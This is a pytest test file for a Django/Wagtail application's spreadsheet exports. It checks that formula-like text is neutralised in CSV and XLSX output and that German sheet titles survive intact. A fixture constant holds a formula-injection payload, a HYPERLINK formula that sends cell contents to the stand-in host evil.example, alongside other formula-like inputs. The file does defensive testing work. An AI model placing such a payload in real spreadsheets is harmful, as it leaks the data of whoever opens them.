"""Exports write formulas as text, numbers as numbers, and keep umlauts in sheet names."""

import csv
import io
from datetime import date
from decimal import Decimal

import openpyxl
import pytest

from core import spreadsheets

EVIL = '=HYPERLINK("https://evil.example/?"&A1,"Klick")'
FORMULA_LIKE = [EVIL, "+49 6136 1234", "-1+2", "@SUM(A1)", "\t=1+1", "\r=1+1"]


def read_csv(data: bytes) -> list[list[str]]:
    assert data.startswith("\ufeff".encode())
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))


def open_xlsx(data: bytes):
    return openpyxl.load_workbook(io.BytesIO(data)).active


def test_csv_text_that_starts_like_a_formula_gets_an_apostrophe():
    rows = [["Name", "CO₂"], *[[text, Decimal("1.005")] for text in FORMULA_LIKE]]
    body = read_csv(spreadsheets.to_csv(rows))[1:]
    assert [row[0] for row in body] == [f"'{text}" for text in FORMULA_LIKE]
    assert {row[1] for row in body} == {"1.01"}  # rounded half up to two places


def test_csv_keeps_numbers_dates_and_harmless_text():
    rows = [["Müller & Söhne <GmbH>", -5, 2.5, date(2026, 3, 1), None, "a=b"]]
    assert read_csv(spreadsheets.to_csv(rows)) == [
        ["Müller & Söhne <GmbH>", "-5", "2.5", "2026-03-01", "", "a=b"]
    ]


def test_xlsx_formula_like_text_is_a_string_cell_not_a_formula():
    rows = [
        ["Name", "Investition (€)", "Anzahl"],
        *[[t, Decimal("1234.565"), 3] for t in FORMULA_LIKE],
    ]
    sheet = open_xlsx(spreadsheets.to_xlsx(rows, title="Maßnahmen nach Status"))
    for index, text in enumerate(FORMULA_LIKE, start=2):
        cell = sheet.cell(row=index, column=1)
        assert cell.data_type == "s"
        assert cell.value == text.replace("\r", "\n")  # XML normalises a lone CR
        money = sheet.cell(row=index, column=2)
        assert money.data_type == "n"
        assert money.value == pytest.approx(1234.57)
        assert sheet.cell(row=index, column=3).value == 3
    assert sheet.title == "Maßnahmen nach Status"


def test_xlsx_file_holds_no_formula_at_all():
    import zipfile

    data = spreadsheets.to_xlsx([["Name"], [EVIL]], title="x")
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml


@pytest.mark.parametrize(
    ("title", "expected"),
    [
        ("Lernfortschritt: Übersicht [Köln]", "Lernfortschritt Übersicht Köln"),
        ("a/b\\c?d*e", "a b c d e"),
        ("Ä" * 40, "Ä" * 31),
        ("'quoted'", "quoted"),
        ("", "Export"),
    ],
)
def test_sheet_titles_are_valid_and_keep_umlauts(title, expected):
    assert spreadsheets.sheet_title(title) == expected
    assert open_xlsx(spreadsheets.to_xlsx([["x"]], title=title)).title == expected


@pytest.mark.django_db
def test_dashboard_export_of_a_volunteer_named_like_a_formula(client, regional_manager, world):
    from municipalities.models import Membership

    member = Membership.objects.get(participation=world.own, user__email="pate@test.example")
    member.user.full_name = EVIL
    member.user.save()
    client.force_login(regional_manager)
    url = f"/dashboard/export/%s.%s?participation={world.own.pk}"
    table = "children"  # the participation's people
    csv_rows = read_csv(client.get(url % (table, "csv")).content)
    names = [row[0] for row in csv_rows[1:]]
    assert any(name.startswith("'=HYPERLINK") for name in names)
    assert not any(name.startswith("=") for name in names)
    sheet = open_xlsx(client.get(url % (table, "xlsx")).content)
    cells = [row[0] for row in sheet.iter_rows(min_row=2)]
    evil = [cell for cell in cells if str(cell.value).startswith("=HYPERLINK")]
    assert evil and all(cell.data_type == "s" for cell in evil)


@pytest.mark.django_db
def test_wagtail_site_history_csv_neutralises_formulas(client, coordinator):
    from wagtail.log_actions import log

    from coaching.models import Event
    from tests.coaching.factories import EventFactory

    coordinator.is_superuser = True
    coordinator.save()
    event = EventFactory(title=EVIL)
    log(event, "wagtail.create", user=coordinator)
    assert Event.objects.filter(title=EVIL).exists()
    client.force_login(coordinator)
    response = client.get("/admin/reports/site-history/?export=csv")
    assert response.status_code == 200
    text = b"".join(response.streaming_content).decode("utf-8")
    rows = list(csv.reader(io.StringIO(text)))
    cells = [cell for row in rows for cell in row]
    assert f"'{EVIL}" in cells
    assert EVIL not in cells
    response = client.get("/admin/reports/site-history/?export=xlsx")
    sheet = open_xlsx(
        b"".join(response.streaming_content) if response.streaming else response.content
    )
    evil = [c for row in sheet.iter_rows() for c in row if str(c.value).startswith("=HYPERLINK")]
    assert evil and all(cell.data_type == "s" for cell in evil)
